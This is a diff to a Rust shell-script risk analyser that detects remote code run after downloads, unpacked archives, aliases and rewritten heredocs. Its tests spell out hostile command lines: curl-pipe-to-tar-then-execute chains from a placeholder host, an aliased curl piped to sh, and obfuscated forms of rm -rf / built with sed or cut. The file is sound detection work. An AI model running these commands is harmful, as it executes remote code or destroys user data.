@@ -10,7 +10,9 @@
 //! remote content piped or substituted into an interpreter, download-then-execute chains
 //! (`curl -o`, `scp`/`rsync` from a host, `git clone`, `certutil`, `bitsadmin`, `iwr -OutFile`,
 //! then the file — or a file in the downloaded directory, or a bare command word of that
-//! name — runs), write-then-execute chains (literal text, or decoded data written to a file
+//! name — runs; what a downloaded archive unpacks is downloaded too, `curl … | tar xz &&
+//! ./pkg/install.sh`; paths are resolved against the directory earlier `cd`s moved to),
+//! write-then-execute chains (literal text, or decoded data written to a file
 //! that then runs), decoded data into an interpreter, fork bombs (functions that pipe or
 //! background calls to themselves), function definitions (incomplete only when the name
 //! shadows a command the script then calls), calls of aliases defined earlier on the line
@@ -288,6 +290,7 @@ fn looks_windows(text: &str, posix: &Script) -> bool {
         matches!(
             prog,
             "cmd"
+                | "call"
                 | "del"
                 | "erase"
                 | "rd"
@@ -489,6 +492,7 @@ fn looks_windows_every_word(text: &str, posix: &Script) -> bool {
                 if matches!(
                     name.as_str(),
                     "cmd"
+                        | "call"
                         | "del"
                         | "erase"
                         | "rd"
@@ -844,8 +848,13 @@ impl<'l, 'w> Walk<'l, 'w> {
     /// `alias x='rm -rf'; x /`, `Set-Alias x Remove-Item; x C:\ -Recurse`: records the
     /// aliases a command defines, and checks a call of a recorded name as the text it stands
     /// for followed by the call's arguments (a payload of the walk's dialect). The lexers do
-    /// not resolve aliases; without this the call looks like an unknown program.
-    fn alias_calls(&mut self, cmd: &command::Cmd<'_>, aliases: &mut Vec<(String, String)>) {
+    /// not resolve aliases; without this the call looks like an unknown program. Gives back
+    /// that text for a call ([`Walk::alias_effects`]).
+    fn alias_calls(
+        &mut self,
+        cmd: &command::Cmd<'_>,
+        aliases: &mut Vec<(String, String)>,
+    ) -> Option<String> {
         const MAX_ALIASES: usize = 32;
         let ps = self.dialect == Dialect::PowerShell;
         let prog = cmd.program.as_str();
@@ -858,7 +867,7 @@ impl<'l, 'w> Walk<'l, 'w> {
                     }
                 }
             }
-            return;
+            return None;
         }
         if ps && matches!(prog, "set-alias" | "new-alias" | "sal" | "nal") {
             // `Set-Alias [-Name] x [-Value] Remove-Item [-Option …] [-Scope …] [-Force]`.
@@ -895,26 +904,21 @@ impl<'l, 'w> Walk<'l, 'w> {
                     aliases.push((n, v));
                 }
             }
-            return;
+            return None;
         }
         if aliases.is_empty() {
-            return;
+            return None;
         }
-        let Some(first) = cmd.argv.first() else {
-            return;
-        };
+        let first = cmd.argv.first()?;
         if first.dynamic || (first.quoted && !ps) {
             // (A quoted or escaped word is never alias-expanded by a POSIX shell.)
-            return;
+            return None;
         }
         let called = first.text.as_str();
-        let Some((_, value)) = aliases
+        let (_, value) = aliases
             .iter()
             .rev()
-            .find(|(n, _)| n == called || (ps && n.eq_ignore_ascii_case(called)))
-        else {
-            return;
-        };
+            .find(|(n, _)| n == called || (ps && n.eq_ignore_ascii_case(called)))?;
         let mut line = value.clone();
         if !args.is_empty() {
             line.push(' ');
@@ -923,11 +927,12 @@ impl<'l, 'w> Walk<'l, 'w> {
         if self.payloads.len() < 64 && !self.payloads.iter().any(|p| p.text == line) {
             self.payloads.push(Payload {
                 dialect: self.dialect,
-                text: line,
+                text: line.clone(),
                 via: "alias",
                 encoded: false,
             });
         }
+        Some(line)
     }
 
     /// Analyses one simple command; returns the effects of its last effective command (what a
@@ -1014,7 +1019,12 @@ impl<'l, 'w> Walk<'l, 'w> {
                 opaque: false,
             };
             let mut v = rules::check(&empty, &ctx);
-            self.take_verdict(&mut v, sc, stdin_text);
+            let at = Chain {
+                cwd: state.cwd.as_deref(),
+                piped_download: false,
+                nested_download: false,
+            };
+            self.take_verdict(&mut v, sc, at);
             self.report.read_only = false;
         }
         for cmd in &peeled.commands {
@@ -1031,7 +1041,11 @@ impl<'l, 'w> Walk<'l, 'w> {
                 source: Some(sc),
             };
             let mut v = rules::check_reusing(cmd, &ctx, &mut state.plain);
-            self.alias_calls(cmd, &mut state.aliases);
+            if let Some(line) = self.alias_calls(cmd, &mut state.aliases) {
+                // `alias get='curl -s URL'; get | sh`: what the aliased text fetches flows on
+                // as this command's ([`Walk::alias_effects`]).
+                self.alias_effects(&line, &sc.redirects, &mut v.effects);
+            }
             if let Some(roots) = rules::find_roots(cmd) {
                 state.find_roots = Some(roots);
             }
@@ -1066,6 +1080,17 @@ impl<'l, 'w> Walk<'l, 'w> {
                 lists_secrets: state.feeds_pipe && rules::lists_secrets(cmd),
             };
             let prints_own = e.prints.is_some();
+            // What a `|` brings in is a download (`curl … | tar xz`: the archive unpacked).
+            let piped_download = piped_in && prev.is_some_and(|p| p.downloads_to_stdout);
+            // `sed 's/Q/r/g' <<< 'Qm -Qf /' | sh`: text the line spells out in a heredoc or
+            // here-string, rewritten on its way, as when it is piped in (below).
+            if let Some(text) =
+                own_stdin.filter(|_| !prints_own && effects.passes_stdin && rewrites_text(cmd))
+            {
+                effects.prints = Some(text.to_owned());
+                effects.decodes = true;
+                effects.partial = true;
+            }
             if piped_in && effects.passes_stdin {
                 // `curl x | tee f | sh`: what flows through a filter is still the download.
                 if let Some(p) = prev {
@@ -1085,6 +1110,11 @@ impl<'l, 'w> Walk<'l, 'w> {
                         }
                     }
                 }
+            }
+            // `curl … | gunzip > x.sh`, `curl … | tee x.sh`: a download passed on through a
+            // filter into a file downloads that file.
+            if effects.downloads_to_stdout && !v.effects.downloads_to_stdout {
+                self.passed_download(cmd, sc, state.cwd.as_deref());
             }
             // `tee s.sh`, `cp a b.sh`: files that receive text the line shows (rare: out of
             // line).
@@ -1110,9 +1140,26 @@ impl<'l, 'w> Walk<'l, 'w> {
                     }
                 }
             }
-            if let Some(&w) = cmd.argv.first() {
-                if !w.dynamic && self.run_words.len() < 256 && !rules::has_separator(&w.text) {
-                    self.run_words.push(Cow::Borrowed(w.text.as_str()));
+            // The command word (after PowerShell's call operator, `& d\setup.ps1`): a bare
+            // name may run a file of the working directory ([`Walk::run_words`]); a path runs
+            // that file.
+            let word = match cmd.argv.as_slice() {
+                [amp, w, ..] if amp.text == "&" => Some(*w),
+                [w, ..] => Some(*w),
+                [] => None,
+            };
+            if let Some(w) = word {
+                // (A path with a variable names the same file where the line spells it the
+                // same way: `$env:TEMP\a.zip`.)
+                if rules::has_separator(&w.text) {
+                    if self.executes.len() < 256 {
+                        self.executes.push(norm_at(state.cwd.as_deref(), &w.text));
+                    }
+                } else if !w.dynamic && self.run_words.len() < 256 {
+                    self.run_words.push(match state.cwd.as_deref() {
+                        None => Cow::Borrowed(w.text.as_str()),
+                        cwd => Cow::Owned(rules::join_dir(cwd, &w.text)),
+                    });
                 }
             }
             // A command word whose value comes from a download runs remote code.
@@ -1193,7 +1240,12 @@ impl<'l, 'w> Walk<'l, 'w> {
                     }
                     let Some(dialect) = stdin_dialect(cmd) else {
                         // An interpreter's rules scanned the program text already.
-                        let prints = self.take_verdict(&mut v, sc, stdin_text);
+                        let at = Chain {
+                            cwd: state.cwd.as_deref(),
+                            piped_download,
+                            nested_download: nested_downloads,
+                        };
+                        let prints = self.take_verdict(&mut v, sc, at);
                         if prints_own {
                             effects.prints = prints;
                         }
@@ -1223,7 +1275,12 @@ impl<'l, 'w> Walk<'l, 'w> {
                     self.report.read_only = false;
                 }
             }
-            let prints = self.take_verdict(&mut v, sc, stdin_text);
+            let at = Chain {
+                cwd: state.cwd.as_deref(),
+                piped_download,
+                nested_download: nested_downloads,
+            };
+            let prints = self.take_verdict(&mut v, sc, at);
             if prints_own {
                 effects.prints = prints;
             }
@@ -1237,12 +1294,95 @@ impl<'l, 'w> Walk<'l, 'w> {
         last
     }
 
+    /// A filter that passes on a download piped into it writes it to its stdout's file (`>
+    /// x.sh`) and, for `tee`, to its file operands: those files are downloads.
+    #[inline(never)]
+    fn passed_download(&mut self, cmd: &command::Cmd<'_>, sc: &SimpleCommand, cwd: Option<&str>) {
+        for r in sc.redirects.iter().filter(|r| r.takes_stdout()) {
+            self.downloads.push(norm_at(cwd, &r.target.text));
+        }
+        if cmd.program == "tee" {
+            for w in cmd.argv.iter().skip(1) {
+                if !w.text.starts_with('-') && self.downloads.len() < 256 {
+                    self.downloads.push(norm_at(cwd, &w.text));
+                }
+            }
+        }
+    }
+
+    /// What comes out of a downloaded archive is downloaded too: an archive the line
+    /// downloaded (or a file inside a downloaded directory), or one a download pipes in
+    /// (`curl … | tar xz`), unpacks its tree — a directory, the working directory
+    /// ([`CWD_TREE`]) or a decompressed file — as a download, so running a file under it
+    /// runs remote code ([`Walk::finish`]).
+    #[inline(never)]
+    fn extracts(&mut self, extracts: &[(Option<String>, String)], at: Chain<'_>) {
+        for (archive, dest) in extracts {
+            let downloaded = match archive {
+                None => at.piped_download,
+                Some(a) if a.starts_with("<(") => at.nested_download,
+                Some(a) => {
+                    let a = norm_at(at.cwd, a);
+                    self.downloads.iter().any(|d| within_download(&a, d))
+                }
+            };
+            if downloaded {
+                let d = norm_at(at.cwd, dest);
+                self.downloads.push(if d.is_empty() || d == "." {
+                    CWD_TREE.to_owned()
+                } else {
+                    d
+                });
+            }
+        }
+    }
+
+    /// The effects of an alias's text with the call's arguments (`line`): what its commands
+    /// download (to stdout or to files) and whether they use the network, merged into
+    /// `into`, the call's own effects. (The text is analysed for its findings as a payload,
+    /// [`Walk::alias_calls`]; only the facts that flow on to later commands are read here.)
+    #[inline(never)]
+    fn alias_effects(
+        &mut self,
+        line: &str,
+        redirects: &[super::model::Redirect],
+        into: &mut rules::Effects,
+    ) {
+        let limits = LexLimits::default();
+        let script = match self.dialect {
+            Dialect::PowerShell => pwsh::lex(line, &limits),
+            Dialect::Cmd => cmd::lex(line, &limits),
+            Dialect::Posix => posix::lex(line, &limits),
+        };
+        // Only the first command takes the call's redirections and hands on its output.
+        let Some(sc) = script.commands.first() else {
+            return;
+        };
+        let peeled = command::peel(&sc.argv.iter().collect::<Vec<_>>(), &sc.assignments);
+        for cmd in &peeled.commands {
+            let ctx = Context {
+                redirects: if sc.redirects.is_empty() {
+                    redirects
+                } else {
+                    &sc.redirects
+                },
+                ..Context::default()
+            };
+            let v = rules::check(cmd, &ctx);
+            let e = v.effects;
+            into.network |= e.network;
+            into.downloads_to_stdout |= e.downloads_to_stdout;
+            into.decodes |= e.decodes;
+            into.downloads_to.extend(e.downloads_to);
+        }
+    }
+
     /// Folds one command's verdict into the walk; gives back the text the command prints.
     fn take_verdict(
         &mut self,
         v: &mut rules::Verdict,
         sc: &SimpleCommand,
-        _stdin: Option<&str>,
+        at: Chain<'_>,
     ) -> Option<String> {
         // (By reference: the verdict is large, and a move would copy it once per command.)
         for f in v.findings.drain(..) {
@@ -1285,11 +1425,16 @@ impl<'l, 'w> Walk<'l, 'w> {
         self.fetch_network |= e.network && fetch;
         self.metadata_secret |= e.metadata_secret;
         self.network_cmds += usize::from(e.network);
+        let cwd = at.cwd;
         self.downloads
-            .extend(e.downloads_to.iter().map(|p| norm(p)));
-        self.executes.extend(e.executes.iter().map(|p| norm(p)));
+            .extend(e.downloads_to.iter().map(|p| norm_at(cwd, p)));
         self.executes
-            .extend(e.makes_executable.iter().map(|p| norm(p)));
+            .extend(e.executes.iter().map(|p| norm_at(cwd, p)));
+        self.executes
+            .extend(e.makes_executable.iter().map(|p| norm_at(cwd, p)));
+        if !e.extracts.is_empty() {
+            self.extracts(&e.extracts, at);
+        }
         if let Some(text) = &e.prints {
             for r in &sc.redirects {
                 if matches!(
@@ -1694,7 +1839,7 @@ impl<'l, 'w> Walk<'l, 'w> {
         for file in &executed {
             // The file itself, or a file inside a downloaded directory (`git clone URL r &&
             // bash r/install.sh`).
-            if self.downloads.iter().any(|d| within(file, d)) {
+            if self.downloads.iter().any(|d| within_download(file, d)) {
                 self.add(
                     &finding::REMOTE_SCRIPT_EXECUTION,
                     format!("downloads {file} and runs it"),
@@ -2470,6 +2615,43 @@ fn names_interpreter(text: &str) -> bool {
 
 /// `file` is `dir` or lies inside it (both normalized; the working directory itself, `""`,
 /// only matches itself).
+/// A download marker for a tree unpacked into the (unchanged) working directory: every
+/// relative path under it may be the download's ([`within_download`]). (Not a path `norm`
+/// gives.)
+const CWD_TREE: &str = "\0cwd";
+
+/// `file` is `dir` or under it, where `dir` is a download: a path, or [`CWD_TREE`] (any
+/// relative path that does not climb out: `./pkg/install.sh`, `p/run`, not `../x`, `/x`).
+fn within_download(file: &str, dir: &str) -> bool {
+    if dir == CWD_TREE {
+        return !file.is_empty()
+            && !paths::is_absolute(file)
+            && !file.starts_with(['~', '$', '%'])
+            && file != ".."
+            && !file.starts_with("../");
+    }
+    within(file, dir)
+}
+
+/// [`norm`] of `p` as seen from `cwd` (the working directory changed by earlier commands of
+/// the script, [`rules::join_dir`]; `None`: unchanged).
+fn norm_at(cwd: Option<&str>, p: &str) -> String {
+    match cwd {
+        None => norm(p),
+        cwd => norm(&rules::join_dir(cwd, p)),
+    }
+}
+
+/// Where one command of a script stands, for what its verdict hands to the walk
+/// ([`Walk::take_verdict`]): the working directory, and whether a download is piped into it.
+#[derive(Clone, Copy)]
+struct Chain<'a> {
+    cwd: Option<&'a str>,
+    piped_download: bool,
+    /// A `<(…)` of the command writes a download (`tar xzf <(curl …)`).
+    nested_download: bool,
+}
+
 fn within(file: &str, dir: &str) -> bool {
     file == dir
         || !dir.is_empty()
@@ -2715,6 +2897,88 @@ mod tests {
 
     fn has(r: &Report, spec: &finding::FindingSpec) -> bool {
         r.findings.iter().any(|f| f.id == spec.id)
+    }
+
+    #[test]
+    fn downloaded_archives_unpack_downloads() {
+        let remote = |s: &str| has(&run(s), &finding::REMOTE_SCRIPT_EXECUTION);
+        for s in [
+            "curl -L https://x.example/p.tgz | tar xz && ./p/install.sh",
+            "curl -L https://x.example/p.tgz | tar xz -C /tmp/p && /tmp/p/run",
+            "curl -o a.zip https://x.example/a.zip && unzip a.zip -d d && sh d/s.sh",
+            "curl -o /tmp/a.tgz https://x.example/a.tgz && cd /tmp && tar xzf a.tgz && ./a/x",
+            "curl -L https://x.example/p.tgz | tar xz && cd p && ./configure",
+            "curl -s https://x.example/i.sh.gz | gunzip > i.sh && sh i.sh",
+            "tar xzf <(curl -sL https://x.example/p.tgz) && ./p/install.sh",
+            "git clone https://x.example/r && cd r && ./install.sh",
+            "cd /tmp && curl -O https://x.example/a.sh && sh /tmp/a.sh",
+        ] {
+            assert!(remote(s), "{s}: {:?}", ids(&run(s)));
+        }
+        for s in [
+            "tar xzf vendor.tgz && ./vendor/run.sh",
+            "curl -o d.tgz https://x.example/d.tgz && tar xzf d.tgz && ls d",
+            "curl -o d.tgz https://x.example/d.tgz && tar tzf d.tgz && ./d/run",
+            "curl -L https://x.example/p.tgz | tar xz -C v && ./configure",
+            "curl -L https://x.example/p.tgz | tar xz && cd p && make",
+            "git clone https://x.example/r && cd r && make",
+        ] {
+            assert!(!remote(s), "{s}: {:?}", ids(&run(s)));
+        }
+    }
+
+    #[test]
+    fn within_download_reads_the_working_directory_tree() {
+        for f in ["p/run", "run", "a/b/c.sh"] {
+            assert!(within_download(f, CWD_TREE), "{f}");
+        }
+        for f in [
+            "/tmp/x", "../x", "..", "~/x", "$HOME/x", "%TEMP%/x", "C:/x", "",
+        ] {
+            assert!(!within_download(f, CWD_TREE), "{f}");
+        }
+        assert!(within_download("r/x.sh", "r") && !within_download("rx/x.sh", "r"));
+        assert_eq!(norm_at(Some("/tmp"), "./p/x.sh"), "/tmp/p/x.sh");
+        assert_eq!(norm_at(Some("/tmp"), "/opt/x"), "/opt/x");
+        assert_eq!(norm_at(None, "./p/x.sh"), norm("p/x.sh"));
+    }
+
+    #[test]
+    fn aliases_hand_on_what_their_text_downloads() {
+        let r = run("alias get='curl -s https://x.example/i.sh'; get | sh");
+        assert!(has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+        let r = run("alias get='curl -so i.sh'; get https://x.example/i.sh && sh i.sh");
+        assert!(has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+        let r = run("alias get='curl -s https://x.example/d'; get | jq .");
+        assert!(!has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+    }
+
+    #[test]
+    fn rewritten_heredocs_and_here_strings_into_shells_are_built_code() {
+        for s in [
+            "sed 's/Q/r/g' <<< 'Qm -Qf /' | sh",
+            "cut -c2- <<< 'Xrm -rf /' | bash",
+            "sed 's/Q/r/g' <<'EOF' | sh\nQm -Qf /\nEOF",
+            "sed 's/Q/r/g' <<< 'Qm -Qf /' > x.sh; sh x.sh",
+        ] {
+            let r = run(s);
+            assert!(
+                has(&r, &finding::DYNAMIC_CODE_EXECUTION),
+                "{s}: {:?}",
+                ids(&r)
+            );
+        }
+        for s in [
+            "sed 's/a/b/' <<< 'hello' | cat",
+            "sed 's/a/b/' <<< 'x' > out.txt",
+        ] {
+            let r = run(s);
+            assert!(
+                !has(&r, &finding::DYNAMIC_CODE_EXECUTION),
+                "{s}: {:?}",
+                ids(&r)
+            );
+        }
     }
 
     #[test]
